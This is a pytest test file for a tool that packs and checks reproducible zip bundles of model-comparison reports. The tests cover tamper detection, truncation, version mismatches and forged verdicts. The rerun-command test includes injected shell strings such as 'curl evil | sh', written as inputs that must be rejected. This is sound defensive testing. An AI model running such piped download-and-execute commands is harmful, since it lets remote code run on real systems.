"""Bundles: the same bytes every time, every changed byte found, nothing hostile unpacked."""

import dataclasses
import hashlib
import json
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from tests.captures import write_capture
from tests.unit.run.made import run, side
from validate.capture.reader import open_capture
from validate.errors import CaptureError, InputError
from validate.report import render_json
from validate.run.bundle import Kept, Source, check_bundle, find_captures, write_bundle
from validate.run.bundle_zip import INDEX, write_zip
from validate.run.claims import attach_claims, load_claims
from validate.run.recompute import Inside, Known, _command, _stale, differences, recompute
from validate.schema.bundle import BundleCapture
from validate.schema.report import Report

ROOT = Path(__file__).parents[3]
CLAIMS = ROOT / "docs" / "claims" / "kimi-k3.toml"


def render(report: Report) -> dict[str, bytes]:
    return {"report.json": render_json(report).encode(), "report.md": b"# a page\n"}


@pytest.fixture(autouse=True)
def honest(monkeypatch: pytest.MonkeyPatch) -> list[Report]:
    """What the captures of a bundle give; appended to, to make them give something else."""
    given: list[Report] = []
    monkeypatch.setattr(
        "validate.run.bundle.recompute",
        lambda stored, inside, *, progress: given[-1] if given else stored,
    )
    return given


@pytest.fixture
def source(tmp_path: Path) -> Source:
    kept: list[Kept] = []
    for role in ("ref", "cand", "repeat", "repeat"):
        folder = tmp_path / f"{role}-{len(kept)}"
        write_capture(folder)
        kept.append(Kept(role=role, label=role, reader=open_capture(folder, label=role)))
    for name in ("suite.toml", "limits.toml"):
        (tmp_path / name).write_text(f"# {name}\n", "utf-8")
    return Source(
        report=run(side("rocm", 0.1)),
        render=render,
        captures=kept,
        suite=tmp_path / "suite.toml",
        limits=tmp_path / "limits.toml",
    )


@pytest.fixture
def bundle(source: Source, tmp_path: Path) -> Path:
    out = tmp_path / "out.zip"
    write_bundle(source, out)
    return out


def check(path: Path) -> Report:
    return check_bundle(path, render=render)


def test_bundle_is_the_same_bytes_every_time_and_gives_its_report(
    source: Source, bundle: Path, tmp_path: Path
) -> None:
    write_bundle(source, tmp_path / "again.zip")

    assert (tmp_path / "again.zip").read_bytes() == bundle.read_bytes()
    assert check(bundle) == source.report
    entries = zipfile.ZipFile(bundle).infolist()
    assert entries[0].filename == INDEX
    assert {entry.date_time for entry in entries} == {(1980, 1, 1, 0, 0, 0)}
    assert {"report/report.json", "captures/repeat-2/manifest.json", "suite.toml"} <= {
        entry.filename for entry in entries
    }


@pytest.mark.slow
def test_any_changed_byte_is_found(bundle: Path, tmp_path: Path) -> None:
    """60 bytes of the container, drawn from all, and each of its first 30 and last 60."""
    whole = bundle.read_bytes()
    drawn = np.random.default_rng(7).choice(len(whole), size=60, replace=False).tolist()
    changed = tmp_path / "changed.zip"

    for at in [*range(30), *range(len(whole) - 60, len(whole)), *drawn]:
        damaged = bytearray(whole)
        damaged[at] ^= 0x10
        changed.write_bytes(damaged)
        with pytest.raises(CaptureError, match=r"do next|bundle"):
            check(changed)


@pytest.mark.parametrize("more", [b"\0", b"PK\5\6" + 18 * b"\0"])
@pytest.mark.parametrize("front", [True, False])
def test_bytes_before_or_behind_are_found(bundle: Path, more: bytes, front: bool) -> None:
    whole = bundle.read_bytes()
    bundle.write_bytes(more + whole if front else whole + more)

    with pytest.raises(CaptureError):
        check(bundle)


def test_file_whose_byte_was_changed_is_named(bundle: Path) -> None:
    name = "captures/cand/streams.jsonl"
    entry = zipfile.ZipFile(bundle).getinfo(name)
    damaged = bytearray(bundle.read_bytes())
    damaged[entry.header_offset + 30 + len(name) + 5] ^= 1
    bundle.write_bytes(damaged)

    with pytest.raises(CaptureError, match=f"{name}: its bytes are not those"):
        check(bundle)


def contents(bundle: Path) -> dict[str, Path | bytes]:
    with zipfile.ZipFile(bundle) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


@pytest.mark.parametrize(
    ("change", "said"),
    [
        (lambda held: held.pop("limits.toml"), r"limits.toml: is listed and missing"),
        (lambda held: held.update(more=b"x"), r"more: is not listed in bundle.json"),
        (
            lambda held: held.update({"suite.toml": b"alpha = 0.4"}),
            r"suite.toml: 11 bytes of sha256 [0-9a-f]{12}; bundle.json lists 13 bytes of",
        ),
        (
            lambda held: held.pop(INDEX),
            "holds no bundle.json, so it is no bundle of validate; 3. files",
        ),
        (lambda held: held.pop("report/report.json"), "holds no report/report.json, so it is"),
        (lambda held: held.update({INDEX: b"{}"}), "bundle.json: tool_version: Field required"),
    ],
    ids=["missing", "extra", "changed", "no index", "no report", "empty index"],
)
def test_file_that_is_not_as_listed_is_named(
    bundle: Path, change: Callable[[dict[str, Any]], Any], said: str
) -> None:
    held = contents(bundle)
    change(held)
    write_zip(bundle, held)

    with pytest.raises(CaptureError, match=said) as caught:
        check(bundle)
    assert str(caught.value).splitlines()[-1].startswith("  do next: ask whoever made it ")


@pytest.mark.parametrize("name", [INDEX, "report/report.json"])
def test_index_or_report_nested_too_deep_is_refused(bundle: Path, name: str) -> None:
    held: dict[str, Any] = contents(bundle)
    held[name] = b"[" * 100_000
    if name != INDEX:
        relisted(held, INDEX, {})
    write_zip(bundle, held)

    with pytest.raises(CaptureError, match=f"{name}: the whole file: "):
        check(bundle)


@pytest.mark.parametrize(
    ("share", "said"),
    [
        (0.0, "is no whole zip file but empty"),
        (0.05, "'bundle.json' was cut short"),
        (0.5, "'captures/[a-z0-9-]+/[a-z0-9/.]+' was cut short, [0-9]+ bytes are there"),
        (0.9, "'report/report.json' was cut short"),
        (0.9999, "the directory at its end is missing or damaged"),
    ],
)
def test_bundle_that_was_cut_short_names_the_file_that_lacks_bytes(
    bundle: Path, share: float, said: str
) -> None:
    whole = bundle.read_bytes()
    bundle.write_bytes(whole[: int(share * len(whole))])

    with pytest.raises(CaptureError, match=said) as caught:
        check(bundle)
    assert str(caught.value).splitlines()[-1].startswith("  do next: copy or download it again")


def relisted(held: dict[str, Any], name: str, changes: dict[str, Any]) -> None:
    record = json.loads(held[name]) | changes
    held[name] = json.dumps(record).encode()
    index = json.loads(held[INDEX])
    for file in index["files"]:
        content = held[file["path"]]
        file |= {"bytes": len(content), "sha256": hashlib.sha256(content).hexdigest()}
    held[INDEX] = json.dumps(index).encode()


@pytest.mark.parametrize(
    ("name", "changes", "said", "maker"),
    [
        (INDEX, {"schema_version": 2}, "bundle.json: schema_version 2, this", "the version of"),
        (
            "report/report.json",
            {"schema_version": 9, "tool_version": "7.1"},
            r"report/report.json: schema_version 9, this validate [0-9.]+ reads 1",
            "validate 7.1, which made it",
        ),
        (
            "report/report.json",
            {"tool_version": "7.1"},
            r"pages of the report differ \(made by validate 7.1, rendered by",
            "validate 7.1, which made it",
        ),
        (
            "report/report.json",
            {"schema_version": 9, "tool_version": "<script>"},
            "schema_version 9",
            "the version of validate",
        ),
    ],
)
def test_bundle_of_another_version_names_the_version(
    bundle: Path, name: str, changes: dict[str, Any], said: str, maker: str
) -> None:
    held: dict[str, Any] = contents(bundle)
    relisted(held, name, changes)
    write_zip(bundle, held)

    with pytest.raises(CaptureError, match=said) as caught:
        check(bundle)
    assert str(caught.value).splitlines()[-1].startswith(f"  do next: check it with {maker}")


def test_report_that_its_captures_do_not_give_is_refused(
    source: Source, bundle: Path, honest: list[Report]
) -> None:
    """Whoever writes all digests anew still cannot change the verdict."""
    honest.append(run(side("rocm", 3.0)))

    with pytest.raises(CaptureError, match="says PASS; the captures inside give FAIL") as caught:
        check(bundle)

    assert 'verdict: "PASS" in the report, "FAIL" from the captures' in str(caught.value)


def test_bundle_that_fails_its_own_check_is_not_written(
    source: Source, honest: list[Report], tmp_path: Path
) -> None:
    honest.append(run(side("rocm", 3.0)))

    with pytest.raises(CaptureError, match="the captures inside give FAIL"):
        write_bundle(source, tmp_path / "new.zip")

    assert list(tmp_path.glob("*.zip*")) == list(tmp_path.glob(".*.zip*")) == []


def test_page_that_is_not_what_the_report_gives_is_named(bundle: Path) -> None:
    other = lambda report: {**render(report), "report.md": b"# PASS, believe me\n"}  # noqa: E731

    with pytest.raises(CaptureError, match=r"report/report.md: is not what report/report.json"):
        check_bundle(bundle, render=other)


def test_claims_travel_with_their_file(source: Source, tmp_path: Path) -> None:
    report = attach_claims(source.report, load_claims(CLAIMS))
    claimed = Source(
        report=report,
        render=render,
        captures=source.captures,
        suite=source.suite,
        limits=source.limits,
        claims=CLAIMS,
    )
    write_bundle(claimed, tmp_path / "claimed.zip")

    assert check(tmp_path / "claimed.zip").claims == report.claims


def test_bundle_that_is_no_file(tmp_path: Path, bundle: Path) -> None:
    (tmp_path / "link.zip").symlink_to("nowhere")
    for name, said in (
        ("out.zap", "there is no such file; did you mean 'out.zip'"),
        (".", "is a folder; --check takes one zip file"),
        ("link.zip", "is a link to nowhere, where there is no file"),
        ("/dev/zero", "is no regular file"),
    ):
        with pytest.raises(InputError, match=said):
            check(tmp_path / name)


def test_bundle_that_cannot_be_read() -> None:
    with pytest.raises(InputError, match=r"/proc/self/mem: cannot be read \(.*\)\n  do next: "):
        check(Path("/proc/self/mem"))


def test_bundle_that_is_not_there(tmp_path: Path) -> None:
    with pytest.raises(InputError, match=r"no.zip: there is no such file"):
        check(tmp_path / "no.zip")


# --- captures found again, reports held against each other ----------------------------------


def test_captures_are_found_by_digest_or_named_as_gone(tmp_path: Path) -> None:
    for name in ("ref", "cand", "other"):
        write_capture(tmp_path / name)
    digest = open_capture(tmp_path / "ref", label="ref").digest
    report = run(side("rocm", 0.1))
    here = {"path": str(tmp_path / "ref"), "digest": digest}
    report = report.model_copy(
        update={
            "ref": report.ref.model_copy(update=here),
            "cand": report.cand.model_copy(update={**here, "digest": "0" * 64}),
        }
    )

    with pytest.raises(CaptureError, match=r"cand 'rocm': .*/ref holds another capture"):
        find_captures(report, {})
    report = report.model_copy(update={"cand": report.cand.model_copy(update=here)})
    with pytest.raises(CaptureError, match=r"oracle 'oracle': the capture of the report .* is not"):
        find_captures(report, {"other": tmp_path / "nowhere"})
    oracle = None if report.oracle is None else report.oracle.model_copy(update={"digest": digest})
    report = report.model_copy(update={"oracle": oracle, "repeats": ()})
    found = find_captures(report, {"other": tmp_path / "other"})
    assert [(one.role, one.label) for one in found] == [
        ("ref", "cuda"),
        ("cand", "rocm"),
        ("oracle", "other"),
    ]


def test_reports_differ_where_numbers_do_beyond_rounding() -> None:
    old = run(side("rocm", 0.1))
    gate = old.gates[-1]
    assert gate.judged is not None

    def moved(**changes: Any) -> Report:
        return old.model_copy(update={"gates": (*old.gates[:-1], gate.model_copy(update=changes))})

    assert differences(old, old) == []
    assert differences(old, moved(judged=gate.judged * (1 + 1e-9))) == []
    assert len(differences(old, moved(judged=gate.judged * 1.001))) == 1
    assert len(differences(old, moved(judged=None))) == 1
    assert differences(old, moved(reason="so"))[0] == (
        f'gates.{gate.name}.reason: null in the report, "so" from the captures'
    )
    assert len(differences(old, old.model_copy(update={"gates": old.gates[:-1]}))) == 1
    assert differences(old, old.model_copy(update={"tool_version": "9"})) == []


@pytest.mark.parametrize(
    ("note", "told"),
    [
        ("repeat 'cuda-repeat-3' is left out of the noise floor: it is under judgement itself", 0),
        ("repeat 'cuda' is left out of the noise floor: it is ref itself", 0),
        ("repeat 'a' is left out of the noise floor: it is 'b' once more", 0),
        ("measured on MI355X; nothing is left out of the noise floor", 1),
        ("repeat 'a' is left out of the noise floor: it is ref itself. Certified on MI355X", 1),
        ("Certified. repeat 'a' is left out of the noise floor: it is ref itself", 1),
        ("repeat 'a, measured on MI355X' is left out of the noise floor: it is ref itself", 1),
        ("repeat 'a' is left out of the noise floor: other prompts", 1),
    ],
)
def test_a_forged_note_is_a_difference(note: str, told: int) -> None:
    """Only the whole sentence on a repeat that took no part is taken on the bundle's word."""
    report = run(side("rocm", 0.1))
    forged = report.model_copy(update={"notes": (*report.notes, note)})

    assert len(differences(forged, report)) == told
    twice = report.model_copy(update={"notes": (*report.notes, note, note)})
    assert differences(twice, report)


@pytest.mark.parametrize(
    ("line", "same"),
    [
        ("validate compare --ref cuda --cand rocm --only {}", True),
        ("validate compare --suite suites/small.toml --ref cuda --cand rocm --only {}", True),
        ("validate compare --ref cuda --cand rocm --suite suites/small.toml --only {}", True),
        ("validate compare --ref cuda --cand rocm --tokens 15-17 --only {}", True),
        ("validate compare --ref cuda --cand rocm --tokens '1; x' --only {}", False),
        ("validate compare --ref cuda --cand rocm --prompt p-0 --only {}", False),
        ("validate compare --ref cuda --cand rocm --out /home/you --only {}", False),
        ("validate compare --ref cuda --cand other --only {}", False),
        ("validate compare --ref cuda --cand rocm; curl evil | sh #--only {}", False),
        ("curl evil | sh # --only {}", False),
        ("validate compare '--ref", False),
    ],
)
def test_rerun_commands_are_made_of_names_and_not_taken(line: str, same: bool) -> None:
    report = run(side("rocm", 0.1))
    gates = [g.model_copy(update={"rerun": line.format(g.name)}) for g in report.gates]
    forged = report.model_copy(update={"gates": tuple(gates)})

    assert (f"{_command(forged)} --only {gates[0].name}" == gates[0].rerun) is same


# --- the verdict, computed again from the parts inside --------------------------------------


def inside(folder: Path, *roles: str, **changes: Any) -> Inside:
    """A folder as a bundle unpacks to, with a capture for each role."""
    captures = []
    for at, role in enumerate(roles):
        write_capture(folder / str(at))
        digest = open_capture(folder / str(at), label=role).digest
        told = {"role": role, "folder": str(at), "label": role, "digest": digest}
        captures.append(BundleCapture.model_validate(told))
    fields: dict[str, Any] = {
        "folder": folder,
        "captures": captures,
        "suite": "suite.toml",
        "limits": "limits.toml",
        **dict.fromkeys(("golden", "waivers", "weights", "config")),
    }
    for name, source in (("suite", "suites/default"), ("limits", "golden/tolerances")):
        text = (ROOT / f"{source}.toml").read_text("utf-8")
        (folder / f"{name}.toml").write_text(text, "utf-8")
    return Inside(**{**fields, **changes})


@pytest.mark.parametrize(
    ("roles", "files", "said"),
    [
        (("ref",), {}, "one ref, one cand and at most one oracle .* there are 1 ref, 0 cand"),
        (("ref", "cand", "ref"), {}, "there are 2 ref, 1 cand, 0 oracle, 0 repeat"),
        (("ref", "cand"), {"waivers": b""}, "names waivers_file = None, and there is a file of"),
        (("ref", "cand"), {"golden": b"{}"}, "golden: no report that can be read .Field required"),
        (("ref", "cand"), {"weights": b"x"}, "weights: sha256 .* captured with other weights"),
        (("ref", "cand"), {"config": b"{"}, "config: not JSON"),
        (("ref", "cand"), {"config": b"3"}, "config: no table"),
    ],
)
def test_parts_that_cannot_be_are_named(
    tmp_path: Path, roles: tuple[str, ...], files: dict[str, bytes], said: str
) -> None:
    for name, content in files.items():
        (tmp_path / name).write_bytes(content)
    parts = inside(tmp_path, *roles, **{name: name for name in files})

    report = run(side("rocm", 0.1))
    told = report.suite.model_copy(update={"limits": "golden/tolerances.toml"})

    with pytest.raises(CaptureError, match=said):
        recompute(report.model_copy(update={"suite": told}), parts)


def test_report_by_limits_of_another_name_than_the_suites_is_refused(tmp_path: Path) -> None:
    with pytest.raises(CaptureError, match=r"names limits = golden/tolerances.toml, .* t.toml"):
        recompute(run(side("rocm", 0.1)), inside(tmp_path, "ref", "cand"))


def test_report_without_gates_gives_nothing_to_compute(tmp_path: Path) -> None:
    report = run(side("rocm", 0.1)).model_copy(update={"gates": ()})

    with pytest.raises(CaptureError, match="the report judges no gate"):
        recompute(report, inside(tmp_path, "ref", "cand"))


@pytest.mark.parametrize(
    ("told", "n"),
    [
        ((), 1),
        (("golden 'other' in elsewhere is stale",), 1),
        (("golden 'ref' in elsewhere is stale: for source 0, the source here is 1",), 0),
    ],
)
def test_a_stale_golden_must_be_among_the_reports_reasons(
    told: tuple[str, ...], n: int, source: Source
) -> None:
    """In any words on the same golden: its folder and the source here may be others."""
    known = Known(
        blocks=lambda ref, cand, suite: (),
        stale=lambda held: "golden 'ref' in captures/ref is stale" if held.label == "ref" else None,
    )
    inside = Inside(
        folder=Path(),
        captures=(),
        suite="s",
        limits="l",
        **dict.fromkeys(("golden", "waivers", "weights", "config")),
        known=known,
    )
    report = source.report.model_copy(update={"blocked": told})
    readers = [kept.reader for kept in source.captures]

    assert len(list(_stale(report, inside, readers))) == n
    assert list(_stale(report, dataclasses.replace(inside, known=None), readers)) == []
